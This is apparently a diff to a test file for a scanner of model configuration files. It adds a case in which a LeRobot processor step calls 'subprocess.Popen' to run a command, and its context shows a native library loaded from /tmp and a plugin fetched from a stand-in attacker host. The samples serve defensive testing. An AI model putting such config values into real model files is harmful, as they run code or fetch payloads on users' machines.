@@ -234,6 +234,11 @@ export const texts: readonly ModelCase[] = [
     '{"model":{"decoder":{"session_options":{"custom_ops_library":"/tmp/ops.so"}}}}',
     'genai_config.json',
   ),
+  dangerous(
+    'a step of a processor of LeRobot',
+    '{"name":"p","steps":[{"class":"subprocess.Popen","config":{"args":"id"}}]}',
+    'processor.json',
+  ),
   suspicious('Python of a model of ModelScope', '{"framework":"pytorch","task":"chat","allow_remote":true}', 'configuration.json'),
   suspicious('packages of a model of ModelScope', '{"task":"chat","plugins":["https://evil.example/p.tar.gz"]}', 'configuration.json'),
   suspicious('attention by a kernel of the hub', '{"_attn_implementation":"someone/kernel"}', 'config.json'),
